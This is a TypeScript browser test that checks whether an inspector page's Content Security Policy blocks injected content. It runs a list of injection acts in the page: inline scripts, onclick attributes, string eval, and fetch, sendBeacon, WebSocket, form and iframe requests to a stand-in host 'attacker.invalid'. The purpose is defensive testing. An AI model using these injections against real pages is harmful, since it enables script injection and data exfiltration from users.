import { launchChromium } from "@moora/testbed/chromium";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Files } from "./files.ts";
import { sampleAgent, sampleSession } from "./sample-session.ts";
import { createSession, servedAgent } from "./served-agent.ts";

/** Ways in which content that became a part of the page would act, with the directive of the policy that forbids it. They run in the page. */
const acts: readonly (readonly [directive: string, act: (host: string) => unknown])[] = [
  ["script-src-elem", () => append("script", { textContent: "globalThis.__x = 1" })],
  ["script-src-elem", (host) => append("script", { src: `${host}/x.js` })],
  [
    "script-src-attr",
    () => append("p", { innerHTML: "<b onclick='globalThis.__x = 1'>b</b>" }).querySelector("b")?.click(),
  ],
  // oxlint-disable-next-line typescript/no-implied-eval
  ["script-src", () => setTimeout("globalThis.__x = 1")],
  ["style-src-elem", () => append("style", { textContent: "body { display: none }" })],
  ["style-src-attr", () => append("p", { innerHTML: "<b style='color: red'>b</b>" })],
  ["img-src", (host) => append("img", { src: `${host}/pixel.png` })],
  ["connect-src", (host) => fetch(`${host}/`)],
  ["connect-src", (host) => navigator.sendBeacon(`${host}/`, "x")],
  ["connect-src", (host) => new WebSocket(host.replace("http", "ws"))],
  ["form-action", (host) => append("form", { action: `${host}/`, method: "post" }).submit()],
  ["frame-src", (host) => append("iframe", { src: `${host}/` })],
  ["object-src", (host) => append("object", { data: `${host}/` })],
  ["media-src", (host) => append("video", { src: `${host}/x.mp4` })],
  ["worker-src", () => new Worker("data:text/javascript,1")],
  ["base-uri", (host) => append("base", { href: `${host}/` })],
  ["style-src-elem", (host) => append("link", { rel: "stylesheet", href: `${host}/x.css` })],
];

/** In the page: appends an element to its body. */
declare function append<Name extends keyof HTMLElementTagNameMap>(
  name: Name,
  fields: Partial<HTMLElementTagNameMap[Name]>,
): HTMLElementTagNameMap[Name];

/** Defines `append`, and collects the directives that the page reports as violated. */
function prepare(): void {
  const violated: string[] = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violated.push(effectiveDirective));
  Object.assign(globalThis, {
    violated,
    append: (name: string, fields: object) =>
      document.body.appendChild(Object.assign(document.createElement(name), fields)),
  });
}

/** Does one act, and returns the directives that it violates. */
async function violatedBy(page: Page, act: (host: string) => unknown): Promise<readonly string[]> {
  const source = `(async () => { violated.length = 0; try { await (${act.toString()})("https://attacker.invalid"); } catch {} })()`;
  await page.evaluate(source);
  const violated = (): Promise<readonly string[]> => page.evaluate<readonly string[]>("violated");
  await expect.poll(violated, { message: act.toString() }).not.toEqual([]);
  return await violated();
}

describe("the policy of the page", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchChromium();
  });
  afterAll(() => browser.close());

  /** Does all acts in the page. Returns what they have done: run a script, reached another host, hidden or left the page. */
  async function doAll(page: Page, allowed: (url: string) => boolean): Promise<readonly string[]> {
    const done: string[] = [];
    // A request that the policy blocks is reported as well, and has no response.
    page.on("response", (response) => void (allowed(response.url()) || done.push(response.url())));
    const address = (): string => new URL(page.url()).pathname;
    const before = address();
    await page.evaluate(prepare);
    for (const [directive, act] of acts)
      if (!(await violatedBy(page, act)).includes(directive)) done.push(act.toString());
    if (await page.evaluate(() => "__x" in globalThis)) done.push("a script");
    if (address() !== before) done.push(address());
    if ((await page.evaluate(() => getComputedStyle(document.body).display)) !== "flex") done.push("a style");
    return done;
  }

  it("blocks scripts, styles, requests, images, forms and frames in a file", async () => {
    using files = new Files();
    const page = await browser.newPage();
    await page.goto(`${await files.page(await sampleSession())}#at=3`);
    await page.getByRole("listbox").waitFor();
    expect(await doAll(page, (url) => /^(file|blob|data):/.test(url))).toEqual([]);
    await page.close();
  });

  it("blocks them in the page of a server, which sends the policy, and connects to its own origin only", async () => {
    await using server = await servedAgent(sampleAgent([], async () => ""));
    const id = await createSession(server.url);
    const page = await browser.newPage();
    const response = await page.goto(`${server.url}/inspector/#session=${id}&at=1`);
    expect(response?.headers()["content-security-policy"]).toContain("default-src 'none'");
    await page.getByRole("listbox").waitFor();
    await page.getByText("live", { exact: true }).waitFor();
    expect(await doAll(page, (url) => url.startsWith(server.url) || /^(blob|data):/.test(url))).toEqual([]);
    await page.close();
  });
});
